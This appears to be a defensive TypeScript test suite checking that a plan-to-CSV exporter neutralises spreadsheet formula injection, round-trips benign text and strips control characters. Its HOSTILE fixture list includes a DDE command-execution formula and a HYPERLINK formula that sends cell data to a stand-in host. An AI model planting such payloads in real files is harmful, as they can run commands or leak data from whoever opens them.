import { expect } from '@open-wc/testing';
import { planToCSV } from '../../src/io/csv.js';
import type { Plan } from '../../src/model/types.js';
import { readAs } from '../support/csv-reader.js';
import { planOf } from '../support/plan-builders.js';

/** A spreadsheet evaluates a cell that starts with one of these (some after trimming spaces, tabs and quotes). */
const FORMULA = /^[\s"]*[=+\-@]/;

const formulaCells = (text: string, separator: ',' | ';' | '\t'): string[] =>
  readAs(text, separator)
    .flat()
    .filter((cell) => FORMULA.test(cell));

/** Titles, names and notes as another company might send them, each trying to start a cell with a formula. */
const HOSTILE = [
  "Intro;=cmd|' /C calc'!A0;x",
  '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")',
  'Review,=1+1',
  'Review\t+SUM(1)',
  'Budget; -5%',
  'Sign-off;@SUM(1,2)',
  'Quote;"=2+2"',
  'Spaces;   =3+3',
  'Line one\n=cmd|x',
  'Line one\r\n+cmd|x',
  'Line one\r-cmd|x',
  ' =leading space',
  '"=leading quote',
  '\t=tab first',
  '\r=CR first',
  'Word\u000B=after a vertical tab',
];

function hostilePlan(): Plan {
  const plan = planOf({
    a: ['2026-03-02', '2026-03-06'],
    b: ['2026-03-09', '2026-03-13', 'a'],
    c: ['2026-03-16', '2026-03-20', 'a', 'b'],
  });
  plan.items = HOSTILE.map((text, index) => ({
    id: `s${index}`,
    title: text,
    partyId: index % 2 ? 'buyer' : 'seller',
    kind: 'task',
    start: '2026-03-02',
    end: '2026-03-06',
    owner: HOSTILE[(index + 1) % HOSTILE.length],
    role: HOSTILE[(index + 2) % HOSTILE.length],
    notes: HOSTILE[(index + 3) % HOSTILE.length],
  }));
  // Every step depends on the two before it, so "Depends on" joins hostile titles with "; ".
  plan.items.forEach((item, index) => {
    if (index >= 2) item.dependsOn = [plan.items[index - 2]!.id, plan.items[index - 1]!.id];
  });
  plan.parties[0]!.name = '=Seller;+Inc';
  plan.parties[1]!.name = 'Buyer,\n@Ltd';
  return plan;
}

describe('CSV in every locale', () => {
  for (const separator of [',', ';', '\t'] as const) {
    it(`has no cell a spreadsheet would evaluate when read with ${JSON.stringify(separator)} as the separator`, () => {
      const text = planToCSV(hostilePlan());
      expect(formulaCells(text, separator)).to.deep.equal([]);
      // The same reader does find formulas in a file that is not neutralised (the check can fail).
      const unsafe = HOSTILE.map((title) => `"${title.replaceAll('"', '""')}"`).join(',');
      expect(formulaCells(unsafe, separator).length, 'the reader finds formulas').to.be.above(2);
    });
  }

  it('reads back every hostile text as it was, with a visible apostrophe before each would-be formula', () => {
    const rows = readAs(planToCSV(hostilePlan()), ',');
    const titles = rows.slice(1).map((row) => row[1]);
    expect(titles[0]).to.equal("Intro;'=cmd|' /C calc'!A0;x");
    expect(titles[4]).to.equal("Budget;' -5%");
    expect(titles[8]).to.equal("Line one\n'=cmd|x");
    expect(titles[15], 'the vertical tab is a space').to.equal('Word =after a vertical tab');
    expect(titles.map((title) => title!.replaceAll("'", '').replaceAll(' ', ''))).to.deep.equal(
      HOSTILE.map((title) => title.replaceAll("'", '').replaceAll('\u000B', '').replaceAll(' ', '')),
    );
  });

  it('keeps "Depends on" readable: each title is neutralised, then joined with "; "', () => {
    const rows = readAs(planToCSV(hostilePlan()), ',');
    const dependsOn = rows[0]!.indexOf('Depends on');
    expect(rows[4]![dependsOn]).to.equal(`'=HYPERLINK("https://example.invalid/?leak="&A1,"Open"); Review,'=1+1`);
  });

  it('round-trips benign text exactly, separators, quotes and line breaks included (positive control)', () => {
    const plan = planOf({ a: ['2026-03-02', '2026-03-06'], b: ['2026-03-09', '2026-03-13', 'a'] });
    const title = 'Legal; "final" review, round 2\nnext: a-b=c, x+y @ HQ 🚀';
    plan.items[0] = { ...plan.items[0]!, title, owner: 'Lee, Dana', notes: 'Tab\there; 50% done' };
    const [header, first, second] = readAs(planToCSV(plan), ',');
    const row = Object.fromEntries(header!.map((name, index) => [name, first![index]]));
    expect(row).to.deep.include({
      Title: title,
      Owner: 'Lee, Dana',
      Notes: 'Tab\there; 50% done',
      Start: '2026-03-02',
      Status: 'To do',
      'Status code': 'todo',
    });
    expect(second![header!.indexOf('Depends on')]).to.equal(title);
  });

  it('holds no character a file should not carry', () => {
    const plan = planOf({ a: ['2026-03-02', '2026-03-06'] });
    plan.items[0] = { ...plan.items[0]!, title: 'Kick-off\u000Bagenda\u0000', notes: 'cut \uD83D emoji \uFFFE' };
    const text = planToCSV(plan);
    expect(text).not.to.match(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/);
    expect(/[\uD800-\uDFFF]/u.test(text), 'a lone surrogate').to.equal(false);
    expect(readAs(text, ',')[1]![1]).to.equal('Kick-off agenda ');
  });
});
